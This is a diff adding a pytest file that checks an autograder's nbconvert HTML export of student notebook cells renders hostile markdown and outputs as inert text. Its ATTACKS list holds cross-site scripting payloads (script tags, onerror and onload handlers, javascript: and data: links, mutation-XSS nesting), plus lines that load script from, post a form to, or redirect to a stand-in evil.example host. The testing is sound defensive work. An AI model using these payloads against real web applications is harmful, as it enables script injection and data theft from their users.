@@ -1,0 +1,180 @@
+"""Pages that nbgrader writes of students' cells: what a browser would run is shown as text."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from nbconvert.exporters import HTMLExporter
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+from traitlets.config import Config
+
+from autograder.nbgrader_hooks import configure
+
+DOT = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
+    "gg=="
+)
+
+
+class Elements(HTMLParser):
+    """Every element with its attributes, and all text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def live(self) -> list[str]:
+        """Name what a browser would run or load, or what changes the page around it."""
+        return [
+            f"{tag} {name}={value}"
+            for tag, attributes in self.found
+            for name, value in attributes.items()
+            if not (name == "id" and (value or "").startswith("cell-id="))  # nbconvert's own
+            if name.startswith("on")
+            or name in ("style", "srcdoc", "srcset", "id", "action", "formaction", "background")
+            or re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.IGNORECASE)
+            or (name == "src" and not (value or "").startswith("data:image/"))
+        ] + [tag for tag, _ in self.found if tag in LIVE]
+
+
+LIVE = (
+    "script",
+    "style",
+    "svg",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "meta",
+    "link",
+    "base",
+    "math",
+)
+
+
+def exporter() -> HTMLExporter:
+    config = Config()
+    configure(config)
+    return HTMLExporter(config=config, template_name="basic")
+
+
+def shown(*cells: object) -> Elements:
+    page, _ = exporter().from_notebook_node(new_notebook(cells=list(cells)))
+    return Elements(page)
+
+
+def bodies(page: Elements) -> list[tuple[str, dict[str, str | None]]]:
+    """Leave the frame out that nbconvert puts around every cell."""
+    return [(t, a) for t, a in page.found if "jp-" not in (a.get("class") or "")]
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/pixel.png">',
+    "<svg onload=alert(1)><script>alert(2)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<style>body { display: none }</style>",
+    '<b style="position:fixed;inset:0">covers the page</b>',
+    '<b id="score" class="score">100</b>',
+    "<object data=x></object><embed src=x>",
+    '<form action="https://evil.example"><input name=x><button>Go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<base href="https://evil.example/">',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](y)',
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href=' &#106;avascript:alert(1)'>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "</div></div></body><script>alert(1)</script>",
+    "$</span><script>alert(1)</script>$",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "<" * 3_000 + "script>",
+    "[" * 3_000,
+    "![x](attachment:missing.png)",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_what_students_write_runs_nothing(attack):
+    plain = shown(new_markdown_cell("text"))
+    page = shown(new_markdown_cell(attack), new_markdown_cell("after"))
+    assert set(page.live()) <= set(plain.live())
+    assert "after" in page.text
+
+
+def test_what_students_print_runs_nothing():
+    attack = "<script>alert(1)</script><img src=x onerror=alert(1)>"
+    outputs = [
+        new_output("stream", name="stdout", text=attack),
+        new_output("stream", name="stderr", text=attack),
+        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
+        new_output("display_data", data={"text/plain": attack}),
+        new_output("execute_result", data={"text/plain": attack, "text/html": attack}),
+    ]
+    page = shown(new_code_cell(attack, outputs=outputs))
+    plain = shown(new_code_cell("1", outputs=[new_output("stream", name="stdout", text="1")]))
+    assert set(page.live()) <= set(plain.live())
+    assert page.text.count("<script>alert(1)</script>") >= 5
+
+
+def test_prose_code_tables_math_and_pictures_survive():
+    source = """# Title
+
+**bold**, *slanted*, `x < y`, [a link](https://example.com), ~~gone~~ and <kbd>Ctrl</kbd>.
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+- one
+- two
+
+$\\alpha < \\beta$ and
+
+$$\\frac{\\partial L}{\\partial w}$$
+
+```python
+def f(x):
+    return x + 1
+```
+
+![a dot](attachment:dot.png)
+"""
+    cell = new_markdown_cell(source, attachments={"dot.png": {"image/png": DOT}})
+    page = shown(cell)
+    tags = {tag for tag, _ in page.found}
+    assert {"h1", "strong", "em", "code", "a", "kbd", "table", "td", "ul", "li", "pre"} <= tags
+    assert "$\\alpha < \\beta$" in page.text
+    assert "\\frac{\\partial L}{\\partial w}" in page.text
+    assert "return x + 1" in re.sub(r"\s+", " ", page.text)
+    links = [attributes["href"] for tag, attributes in bodies(page) if tag == "a"]
+    assert "https://example.com" in links
+    pictures = [attributes["src"] for tag, attributes in page.found if tag == "img"]
+    assert pictures == [f"data:image/png;base64,{DOT}"]
+
+
+def test_an_attachment_is_no_way_out_of_its_picture():
+    evil = {"x.png": {"image/png": 'AAAA" onerror="alert(1)'}}
+    page = shown(new_markdown_cell("![x](attachment:x.png)", attachments=evil))
+    assert not [value for value in page.live() if "alert" in value and value.startswith("on")]
+    assert all("onerror" not in attributes for _, attributes in page.found)
